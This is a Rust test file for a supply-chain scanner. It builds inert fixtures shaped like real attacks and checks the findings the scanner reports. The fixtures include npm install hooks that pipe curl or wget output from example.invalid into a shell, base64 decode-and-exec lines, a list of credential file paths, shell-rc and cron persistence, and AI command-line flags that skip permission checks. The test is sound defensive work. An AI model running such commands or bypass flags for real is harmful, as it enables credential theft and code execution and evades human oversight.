//! node_modules install scripts, GitHub workflows, and each source heuristic on an INERT
//! fixture written by the test (shapes of real attacks; payloads print or do nothing).

mod support;

use palisade_scan::{rules, AdvisoryDb, Severity};
use support::*;

#[test]
fn postinstall_that_runs_a_downloaded_script_is_critical() {
    let tmp = tempfile::tempdir().unwrap();
    install_npm(tmp.path(), "evil-helper", "1.0.0", r#","scripts":{"postinstall":"node setup.js"}"#, &[(
        "setup.js",
        "const { execSync } = require('child_process');\nexecSync('curl -fsSL https://example.invalid/inert.sh | sh');\n",
    )]);
    install_npm(
        tmp.path(),
        "direct",
        "1.0.0",
        r#","scripts":{"preinstall":"wget -qO- https://example.invalid/x | bash"}"#,
        &[],
    );
    install_npm(
        tmp.path(),
        "plain-build",
        "2.0.0",
        r#","scripts":{"install":"node build.js"}"#,
        &[("build.js", "console.log('build')\n")],
    );
    install_npm(
        tmp.path(),
        "native",
        "3.0.0",
        r#","scripts":{"install":"node-gyp rebuild"}"#,
        &[],
    );
    let r = scan_dir(tmp.path(), &AdvisoryDb::empty());
    let crit = of_rule(&r, rules::NPM_INSTALL_DOWNLOAD);
    let names: Vec<_> = crit.iter().map(|f| f.package.clone().unwrap()).collect();
    assert_eq!(names.len(), 2, "{}", dump(&r));
    assert!(names.contains(&"evil-helper".into()) && names.contains(&"direct".into()));
    assert!(crit
        .iter()
        .all(|f| f.severity == Severity::Critical && f.line == Some(1)));
    assert!(
        crit.iter().any(|f| f
            .reason
            .starts_with("postinstall script downloads and executes")),
        "{}",
        dump(&r)
    );
    let plain = of_rule(&r, rules::NPM_INSTALL_SCRIPT);
    assert_eq!(plain.len(), 1, "{}", dump(&r));
    assert_eq!(
        (plain[0].package.as_deref(), plain[0].severity),
        (Some("plain-build"), Severity::Low)
    );
    // The download-exec in setup.js is also a source finding of that package.
    assert!(of_rule(&r, rules::SRC_DOWNLOAD_EXEC)
        .iter()
        .any(|f| f.package.as_deref() == Some("evil-helper")));
}

#[test]
fn workflow_pinned_by_tag_and_pull_request_target() {
    let tmp = tempfile::tempdir().unwrap();
    write(tmp.path(), ".github/workflows/ci.yml", b"name: ci\non: [push]\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - uses: aquasecurity/trivy-action@master\n      - uses: actions/setup-python@a26af69be951a213d495a4c3e4e4022e16d87065\n");
    write(tmp.path(), ".github/workflows/prt.yaml", b"on:\n  pull_request_target:\n    types: [opened]\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683\n        with:\n          ref: ${{ github.event.pull_request.head.ref }}\n      - run: |\n          echo \"title: ${{ github.event.pull_request.title }}\"\n");
    write(
        tmp.path(),
        "docs/workflows/not-a-workflow.yml",
        b"uses: foo/bar@v1\n",
    );
    let r = scan_dir(tmp.path(), &AdvisoryDb::empty());
    let tags = of_rule(&r, rules::GHA_UNPINNED);
    assert_eq!(tags.len(), 2, "{}", dump(&r));
    assert!(tags.iter().any(|f| f.line == Some(7)
        && f.reason.contains("actions/checkout")
        && f.reason.contains("'v4'")));
    assert!(tags
        .iter()
        .any(|f| f.line == Some(8) && f.reason.contains("'master'")));
    assert!(tags.iter().all(|f| f.severity == Severity::Medium));
    let co = of_rule(&r, rules::GHA_PRT_CHECKOUT);
    assert_eq!(
        (co.len(), co[0].line, co[0].severity),
        (1, Some(10), Severity::High),
        "{}",
        dump(&r)
    );
    let inj = of_rule(&r, rules::GHA_PRT_INJECTION);
    assert_eq!(
        (inj.len(), inj[0].line, inj[0].severity),
        (1, Some(12), Severity::High),
        "{}",
        dump(&r)
    );
}

/// One inert sample per heuristic, in the package "acme-utils" so the look-alike rule has a name.
#[test]
fn every_source_heuristic_fires_on_its_inert_fixture() {
    let cases: &[(&str, &str, &str)] = &[
        (rules::SRC_DECODE_EXEC, "decode.py", "import base64\nexec(base64.b64decode('cHJpbnQoImluZXJ0Iik='))\n"),
        (rules::SRC_DECODE_EXEC, "decode.js", "eval(Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64').toString())\n"),
        (rules::SRC_CRED_CLUSTER, "harvest.py", "TARGETS = ['~/.ssh/id_rsa', '~/.aws/credentials', '~/.kube/config',\n  '/var/run/secrets/kubernetes.io/serviceaccount/token', 'http://169.254.169.254/latest/meta-data/',\n  '~/.git-credentials', '~/.bash_history']\nprint(len(TARGETS))\n"),
        (rules::SRC_PERSISTENCE, "persist.py", "import os\nunit = os.path.expanduser('~/.config/systemd/user/acme.service')\nprint(unit)\n"),
        (rules::SRC_PERSISTENCE, "rc.js", "const fs = require('fs');\nfs.appendFileSync(process.env.HOME + '/.bashrc', '# inert\\n');\n"),
        (rules::SRC_PERSISTENCE, "shell.py", "import os\nos.system('echo inert >> ~/.zshrc')\n"),
        (rules::SRC_PERSISTENCE, "cron.sh", "(crontab -l; echo '@reboot true') | crontab -\n"),
        (rules::SRC_DOWNLOAD_EXEC, "fetch.py", "from urllib.request import urlopen\nexec(urlopen('https://example.invalid/p.py').read())\n"),
        (rules::SRC_HYBRID_CRYPTO, "pack.py", "from cryptography.hazmat.primitives.asymmetric import padding\nfrom cryptography.hazmat.primitives.ciphers.aead import AESGCM\nimport tarfile\nk = load_pem_public_key(PUB)\nt = tarfile.open('out.tgz', 'w:gz')\nc = AESGCM(key)\n"),
        (rules::SRC_PROC_MEM, "mem.py", "pid = 1\nwith open(f'/proc/{pid}/mem', 'rb') as f:\n    pass\n"),
        (rules::SRC_AI_CLI_BYPASS, "ai.js", "const { spawnSync } = require('child_process');\nspawnSync('claude', ['--dangerously-skip-permissions', '-p', 'inert']);\n"),
        (rules::SRC_AI_CLI_BYPASS, "ai2.py", "cmd = ['q', 'chat', '--trust-all-tools', '--no-interactive']\n"),
        (rules::SRC_AI_CLI_BYPASS, "ai3.sh", "codex exec --dangerously-bypass-approvals-and-sandbox 'inert'\ngemini --yolo -p inert\n"),
        (rules::SRC_LOOKALIKE_DOMAIN, "beacon.py", "URL = 'https://telemetry.acme-utils.cloud/collect'\n"),
    ];
    for (rule, file, body) in cases {
        let tmp = tempfile::tempdir().unwrap();
        install_npm(
            tmp.path(),
            "acme-utils",
            "1.0.0",
            r#","homepage":"https://acme-utils.dev""#,
            &[(file, body)],
        );
        let r = scan_dir(tmp.path(), &AdvisoryDb::empty());
        let hits = of_rule(&r, rule);
        assert_eq!(hits.len(), 1, "{rule} on {file}:\n{}", dump(&r));
        assert_eq!(hits[0].severity, Severity::High, "{rule}");
        assert_eq!(hits[0].package.as_deref(), Some("acme-utils"));
        assert!(hits[0].line.is_some() && !hits[0].reason.is_empty());
        let others: Vec<_> = r.findings.iter().filter(|f| f.rule_id != *rule).collect();
        assert!(
            others.is_empty(),
            "{file} raised extra findings:\n{}",
            dump(&r)
        );
    }
}

#[test]
fn benign_code_shapes_stay_quiet() {
    let tmp = tempfile::tempdir().unwrap();
    install_npm(tmp.path(), "acme-utils", "1.0.0", r#","homepage":"https://acme-utils.dev""#, &[
        ("a.py", "import base64, json\ndata = json.loads(base64.b64decode(s))\nprint('add completion to ~/.bashrc')\nsubprocess.run(['git', 'status'])\n"),
        ("b.js", "// see https://docs.acme-utils.io/guide\nfetch('https://acme-utils.dev/api').then(r => r.json())\nconst p = require('path').join(os.homedir(), '.ssh', 'known_hosts');\n"),
        ("d.js", "console.profile('x'); fs.writeFileSync(out, data);\nconst doc = 'run: yargs completion >> ~/.bashrc';\n"),
        ("c.py", "\"\"\"Docs at https://acme-utils.org/docs.\"\"\"\nAWS = '~/.aws/credentials'\nMETA = 'http://169.254.169.254/'\n"),
    ]);
    let r = scan_dir(tmp.path(), &AdvisoryDb::empty());
    assert!(r.findings.is_empty(), "{}", dump(&r));
}
